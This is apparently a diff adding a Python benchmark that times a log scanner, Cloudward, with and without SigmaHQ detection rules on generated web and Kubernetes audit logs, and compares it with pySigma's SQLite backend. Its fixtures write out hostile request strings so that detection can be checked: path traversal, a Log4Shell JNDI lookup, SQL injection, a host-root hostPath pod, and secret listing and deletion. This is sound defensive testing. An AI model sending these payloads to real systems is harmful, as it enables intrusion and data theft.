@@ -1,0 +1,301 @@
+"""Sigma rules: scan time with and without the SigmaHQ rules, and Cloudward against pySigma's SQLite backend.
+
+1. Web: every webserver rule of the snapshot (`rules/web`, `rules-emerging-threats`) over >= 1,000,000
+   combined-format lines (web_bench.py's generator: ~50 sites, ordinary traffic with ~0.5% hostile) plus a
+   file of known attacks. `cloudward scan` runs with and without `--sigma`, alternately, in separate
+   processes; lines/s of both and the extra time Sigma adds.
+2. Kubernetes: every Kubernetes audit rule over >= 1,000,000 audit events (k8s_bench.py's generator) plus a
+   file of known attacks: the same two scans, and the rules converted with pySigma's SQLite backend and run
+   over the events loaded into SQLite (JSON parsing, loading and the queries all counted).
+
+Before timing anything, each run's summary is checked: every line read, and the alerts the attack files
+must raise were raised (and, for SQLite, that the same rules matched).
+
+    python benchmarks/sigma_bench.py                      # 1,000,000 lines and 1,000,000 events
+    python benchmarks/sigma_bench.py --lines 200000 --events 200000 --repeat 1
+Needs `pip install pysigma-backend-sqlite` for the SQLite comparison (skipped, and said so, without it).
+Results are printed as Markdown for benchmarks/sigma.md.
+"""
+
+from __future__ import annotations
+
+import argparse
+import json
+import os
+import re
+import sqlite3
+import subprocess
+import sys
+import time
+from pathlib import Path
+from typing import Any
+
+import orjson
+
+HERE = Path(__file__).resolve().parent
+sys.path.insert(0, str(HERE))
+import k8s_bench  # noqa: E402
+import web_bench  # noqa: E402
+
+ROOT = HERE.parent
+SNAPSHOT = ROOT / "tests" / "data" / "sigma" / "sigmahq"
+WEB_RULES = [SNAPSHOT / "rules" / "web", SNAPSHOT / "rules-emerging-threats"]
+K8S_RULES = [SNAPSHOT / "rules" / "application" / "kubernetes"]
+OUT = HERE / "out"
+CLOUDWARD = str(Path(sys.executable).parent / "cloudward")
+READ = re.compile(r"Read (\d+) input\(s\), ([\d,]+) lines, ([\d,]+) events")
+
+#: attack lines and the rules each must raise
+WEB_ATTACKS = [
+    ('GET /cgi-bin/../../../etc/passwd HTTP/1.1', 400, "7745c2ea-24a5-4290-b680-04359cb84b35"),
+    ('GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1', 200, "5ea8faa8-db8b-45be-89b0-151b84c82702"),
+    ('GET /item?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1', 200, "5513deaf-f49a-46c2-a6c8-3f111b5cb453"),
+    ('POST /mgmt/tm/util/bash HTTP/1.1', 200, "85254a62-22be-4239-b79c-2ec17e566c37"),
+]
+
+
+def _web_attacks(path: Path) -> list[str]:
+    lines = []
+    for i, (request, status, _) in enumerate(WEB_ATTACKS):
+        lines.append(f'203.0.113.{10 + i} - - [05/Nov/2026:10:00:{i:02d} +0000] "{request}" {status} 321 "-" '
+                     f'"Mozilla/5.0 (X11; Linux x86_64)"')
+    path.write_text("\n".join(lines) + "\n")
+    return [rid for _, _, rid in WEB_ATTACKS]
+
+
+def _k8s_attacks(path: Path) -> list[str]:
+    def event(i: int, verb: str, resource: str, code: int, *, subresource: str = "", obj: Any = None,
+              ns: str = "shop") -> dict[str, Any]:
+        ref = {"resource": resource, "namespace": ns, "name": f"x{i}", "apiVersion": "v1"}
+        if subresource:
+            ref["subresource"] = subresource
+        ev = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "RequestResponse",
+              "auditID": f"00000000-0000-4000-8000-{i:012d}", "stage": "ResponseComplete",
+              "requestURI": f"/api/v1/namespaces/{ns}/{resource}/x{i}" + (f"/{subresource}" if subresource else ""),
+              "verb": verb, "user": {"username": "mallory@example.com", "groups": ["system:authenticated"]},
+              "sourceIPs": ["198.51.100.66"], "userAgent": "kubectl/v1.29.2", "objectRef": ref,
+              "responseStatus": {"metadata": {}, "code": code},
+              "requestReceivedTimestamp": f"2026-11-05T10:00:{i:02d}.000000Z",
+              "stageTimestamp": f"2026-11-05T10:00:{i:02d}.100000Z"}
+        if obj is not None:
+            ev["requestObject"] = obj
+        return ev
+
+    host_pod = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "x5", "namespace": "shop"},
+                "spec": {"containers": [{"name": "c", "image": "alpine:3.19"}],
+                         "volumes": [{"name": "root", "hostPath": {"path": "/"}}]}}
+    events = [
+        event(1, "create", "pods", 201, subresource="exec"),      # exec into a container
+        event(2, "get", "secrets", 403),                          # forbidden
+        event(3, "delete", "secrets", 200),                       # secret deleted
+        event(4, "list", "secrets", 200),                         # secrets listed
+        event(5, "create", "pods", 201, obj=host_pod),            # hostPath mount
+    ]
+    path.write_text("".join(orjson.dumps(e).decode() + "\n" for e in events))
+    return ["a1b0ca4e-7835-413e-8471-3ff2b8a66be6", "0d933542-1f1f-420d-97d4-21b2c3c492d9",
+            "58d31a75-a4f8-4c40-985b-373d58162ca2", "eeb3e9e1-b685-44e4-9232-6bb701f925b5",
+            "402b955c-8fe0-4a8c-b635-622b4ac5f902"]
+
+
+def _run(cmd: list[str]) -> tuple[float, bytes, str]:
+    start = time.perf_counter()
+    proc = subprocess.run(cmd, capture_output=True, check=False)
+    elapsed = time.perf_counter() - start
+    if proc.returncode not in (0, 1):
+        raise SystemExit(f"{' '.join(cmd[:4])} failed ({proc.returncode}): {proc.stderr.decode()[-2000:]}")
+    return elapsed, proc.stdout, proc.stderr.decode("utf-8", "replace")
+
+
+def _check(stdout: bytes, stderr: str, want_lines: int, want_rules: list[str]) -> tuple[int, set[str]]:
+    m = READ.search(stderr)
+    if m is None:
+        raise SystemExit("no summary on stderr:\n" + stderr[-2000:])
+    lines = int(m.group(2).replace(",", ""))
+    if lines != want_lines:
+        raise SystemExit(f"the scan read {lines:,} lines, the input has {want_lines:,}")
+    types = {json.loads(ln)["alert_type"] for ln in stdout.splitlines() if ln.strip()}
+    missing = [r for r in want_rules if f"SIGMA_{r}" not in types]
+    if missing:
+        raise SystemExit(f"expected Sigma alerts missing: {missing}")
+    return lines, types
+
+
+def _count_lines(paths: list[Path]) -> int:
+    n = 0
+    for p in paths:
+        files = sorted(f for f in p.rglob("*") if f.is_file()) if p.is_dir() else [p]
+        for f in files:
+            with open(f, "rb") as fh:
+                n += sum(1 for _ in fh)
+    return n
+
+
+def _compare(inputs: list[Path], rules: list[Path], want: list[str], repeat: int,
+             label: str) -> tuple[list[str], float]:
+    total = _count_lines(inputs)
+    base = [CLOUDWARD, "scan", *map(str, inputs), "--output", "jsonl", "--no-progress"]
+    with_sigma = base + [arg for r in rules for arg in ("--sigma", str(r))]
+    _, out, err = _run(with_sigma)  # check first: every line read, the attacks alerted
+    _, types = _check(out, err, total, want)
+    sigma_report = next((ln for ln in err.splitlines() if ln.startswith("Sigma:")), "")
+    plain_t, sigma_t = [], []
+    for _ in range(repeat):
+        plain_t.append(_run(base)[0])
+        sigma_t.append(_run(with_sigma)[0])
+    p, s = min(plain_t), min(sigma_t)
+    sigma_alerts = sum(1 for a in types if a.startswith("SIGMA_"))
+    rows = [
+        f"| {label}: input | {total:,} records |",
+        f"| {label}: `cloudward scan` (cards only) | {total / p:,.0f} /s ({p:.2f} s) |",
+        f"| {label}: `cloudward scan --sigma` (cards + Sigma) | {total / s:,.0f} /s ({s:.2f} s), "
+        f"{sigma_alerts} Sigma alert types |",
+        f"| {label}: time Sigma adds | **{(s - p) / p * 100:+.0f} %** (target <= +50 %) |",
+        f"| {label}: rules | {sigma_report.split(' (')[0]} |",
+    ]
+    return rows, s
+
+
+# -- pySigma's SQLite backend over the same events -------------------------------------------------
+def _value(doc: dict[str, Any], field: str) -> Any:
+    from cloudward.events import K8sAudit
+    from cloudward.sigma.fields import COMPUTED
+
+    if field in ("hostPath", "capabilities"):
+        ev = K8sAudit(event_id="", doc=doc, verb=str(doc.get("verb", "")), request_object=doc.get("requestObject"),
+                      response_object=doc.get("responseObject"))
+        v = COMPUTED["pod_host_paths" if field == "hostPath" else "pod_capabilities"](ev)
+        return None if v is None else ",".join(v)
+    if field == "apiGroup":
+        field = "objectRef.apiGroup"
+    cur: Any = doc
+    for part in field.split("."):
+        cur = cur.get(part) if isinstance(cur, dict) else None
+    if isinstance(cur, list | dict):
+        return orjson.dumps(cur).decode()
+    return cur
+
+
+def sqlite_run(inputs: list[Path], rules: list[Path]) -> tuple[float, set[str], int]:
+    from sigma.backends.sqlite import sqliteBackend
+    from sigma.collection import SigmaCollection
+
+    started = time.perf_counter()
+    collection = SigmaCollection.load_ruleset(rules)
+    backend = sqliteBackend()
+    queries = []
+    fields: set[str] = set()
+    for rule in collection.rules:
+        for q in backend.convert_rule(rule):
+            queries.append((str(rule.id), q))
+        fields.update(backend.required_fields(rule))
+    columns = sorted(fields)
+    db = sqlite3.connect(":memory:")
+    db.execute("CREATE TABLE logs (" + ", ".join(f"`{c}` COLLATE NOCASE" for c in columns) + ")")
+    insert = "INSERT INTO logs VALUES (" + ", ".join("?" for _ in columns) + ")"
+    rows: list[tuple[Any, ...]] = []
+    loaded = 0
+    for path in inputs:
+        with open(path, "rb") as fh:
+            for line in fh:
+                doc = orjson.loads(line)
+                rows.append(tuple(_value(doc, c) for c in columns))
+                if len(rows) >= 20_000:
+                    db.executemany(insert, rows)
+                    loaded += len(rows)
+                    rows.clear()
+    db.executemany(insert, rows)
+    loaded += len(rows)
+    matched = set()
+    for rid, q in queries:
+        if db.execute(q.replace("SELECT *", "SELECT COUNT(*)", 1)).fetchone()[0]:
+            matched.add(rid)
+    return time.perf_counter() - started, matched, loaded
+
+
+def per_event_costs(web_files: list[Path], audit_log: Path, limit: int = 20_000) -> list[str]:
+    """CPU time per event of the Sigma rule groups alone, over events parsed beforehand (no I/O, no cards)."""
+    from cloudward.config import Config
+    from cloudward.parsers import by_name
+    from cloudward.parsers.json_records import JsonRecords
+    from cloudward.sigma import build
+
+    rows = []
+    for label, rules, events in (
+        ("web", WEB_RULES, lambda: _first(by_name("combined"), web_files, limit)),  # type: ignore[arg-type]
+        ("kubernetes", K8S_RULES, lambda: _first(JsonRecords(), [audit_log], limit)),
+    ):
+        ruleset = build(Config(), rules)
+        group = max(ruleset.groups, key=lambda g: len(g.rules))
+        evs = events()
+        started = time.process_time()
+        matches = sum(len(group.match(e)) for e in evs)
+        cpu = time.process_time() - started
+        rows.append(f"| {label}: Sigma rule group alone (CPU) | {cpu / len(evs) * 1e6:.1f} µs per event, "
+                    f"{len(group.rules)} rules, {len(evs):,} events, {matches} matches |")
+    return rows
+
+
+def _first(fmt: Any, files: list[Path], limit: int) -> list[Any]:
+    from cloudward.inputs import InputFile
+    from cloudward.parsers.base import ParseContext
+
+    out: list[Any] = []
+    for f in files:
+        for p in sorted(f.rglob("*.log")) if f.is_dir() else [f]:
+            src = InputFile(str(p))
+            src.open()
+            try:
+                for ev in fmt.parse(src, ParseContext()):
+                    out.append(ev)
+                    if len(out) >= limit:
+                        return out
+            finally:
+                src.close()
+    return out
+
+
+def main() -> None:
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument("--lines", type=int, default=1_000_000, help="combined-format lines (default 1,000,000)")
+    ap.add_argument("--events", type=int, default=1_000_000, help="audit events (default 1,000,000)")
+    ap.add_argument("--repeat", type=int, default=2, help="runs of each side; the best is reported")
+    ap.add_argument("--part", choices=("web", "k8s", "both"), default="both")
+    args = ap.parse_args()
+    OUT.mkdir(exist_ok=True)
+    rows = ["| measure | result |", "|---|---|"]
+    if args.part in ("web", "both"):
+        folder = OUT / f"web-combined-{args.lines}"
+        if not folder.exists():
+            web_bench.generate(folder, args.lines, "combined")
+        attacks = OUT / "sigma-web-attacks.log"
+        want = _web_attacks(attacks)
+        web_rows, _ = _compare([folder, attacks], WEB_RULES, want, args.repeat, "web")
+        rows += web_rows
+    if args.part in ("k8s", "both"):
+        log = OUT / f"audit-{args.events}.log"
+        if not log.exists():
+            k8s_bench.generate(log, args.events)
+        attacks = OUT / "sigma-k8s-attacks.log"
+        want = _k8s_attacks(attacks)
+        k8s_rows, cloudward_s = _compare([log, attacks], K8S_RULES, want, args.repeat, "kubernetes")
+        rows += k8s_rows
+        try:
+            seconds, matched, loaded = sqlite_run([log, attacks], K8S_RULES)
+        except ImportError:
+            rows.append("| kubernetes: pySigma SQLite backend | not run: pip install pysigma-backend-sqlite |")
+        else:
+            missing = [r for r in want if r not in matched]
+            if missing:
+                raise SystemExit(f"SQLite queries missed expected rules {missing}")
+            rows.append(f"| kubernetes: pySigma SQLite backend (convert, load {loaded:,} events, run "
+                        f"{len(matched)} matching of all queries) | {loaded / seconds:,.0f} /s ({seconds:.2f} s) |")
+            rows.append(f"| kubernetes: Cloudward scan with Sigma vs SQLite | **{seconds / cloudward_s:.1f}x** faster "
+                        f"(target >= 10x) |")
+    if args.part == "both":
+        rows += per_event_costs([OUT / f"web-combined-{args.lines}"], OUT / f"audit-{args.events}.log")
+    print("\n".join(rows))
+    print(f"\n(machine: {os.cpu_count()} CPUs, Python {sys.version.split()[0]})")
+
+
+if __name__ == "__main__":
+    main()
